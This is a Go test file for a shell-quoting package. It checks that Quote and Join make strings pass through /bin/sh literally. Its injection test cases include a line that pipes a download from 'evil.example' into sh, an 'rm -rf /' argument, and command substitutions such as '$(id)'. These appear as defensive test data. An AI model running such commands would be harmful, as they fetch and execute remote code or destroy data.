package shellquote

import (
	"os/exec"
	"strings"
	"testing"
)

func TestQuote(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", "''"},
		{"outbox", "outbox"},
		{"--partner", "--partner"},
		{"2026-12-07", "2026-12-07"},
		{"a.b_c@d:e/f=g+h-i", "a.b_c@d:e/f=g+h-i"},
		{"x y", "'x y'"},
		{"x; curl -s http://evil.example/p|sh #", "'x; curl -s http://evil.example/p|sh #'"},
		{"it's", `'it'\''s'`},
		{"'", `''\'''`},
		{"$(id)", "'$(id)'"},
		{"`id`", "'`id`'"},
		{"a\nb", "'a\nb'"},
		{"~root", "'~root'"},
		{"*", "'*'"},
		{"Müller", "'Müller'"},
	} {
		if got := Quote(c.in); got != c.want {
			t.Errorf("Quote(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestJoin(t *testing.T) {
	got := Join("renewald", "outbox", "list", "--partner", "x; rm -rf /", "--status", "")
	want := `renewald outbox list --partner 'x; rm -rf /' --status ''`
	if got != want {
		t.Errorf("Join = %q, want %q", got, want)
	}
	argv := shellArgs(t, got)
	wantArgv := []string{"outbox", "list", "--partner", "x; rm -rf /", "--status", ""}
	if strings.Join(argv, "\x00") != strings.Join(wantArgv, "\x00") || len(argv) != len(wantArgv) {
		t.Errorf("the shell split %q into %q, want %q", got, argv, wantArgv)
	}
}

// shellArgs runs command through /bin/sh with its first word replaced by a printer of its
// arguments, and returns the arguments the shell passed.
func shellArgs(t *testing.T, command string) []string {
	t.Helper()
	_, rest, _ := strings.Cut(command, " ")
	out, err := exec.Command("/bin/sh", "-c", `p() { for a in "$@"; do printf '%s\0' "$a"; done; }; p `+rest).Output()
	if err != nil {
		t.Fatalf("sh -c %q: %v", command, err)
	}
	args := strings.Split(string(out), "\x00")
	return args[:len(args)-1]
}

// FuzzQuote: whatever the string, the shell reads Quote(s) back as s (NUL bytes excepted: no
// shell argument can carry one).
func FuzzQuote(f *testing.F) {
	for _, s := range []string{"", "x", "x y", "it's", "'''", `\`, "$(id)", "a\nb", "--partner=x;y", "Müller & Söhne", "\xff\xfe"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if strings.IndexByte(s, 0) >= 0 {
			t.Skip("a shell argument cannot carry a NUL byte")
		}
		out, err := exec.Command("/bin/sh", "-c", "printf %s "+Quote(s)).Output()
		if err != nil {
			t.Fatalf("sh -c printf %%s %s: %v", Quote(s), err)
		}
		if string(out) != s {
			t.Fatalf("the shell read %q back as %q", s, out)
		}
	})
}
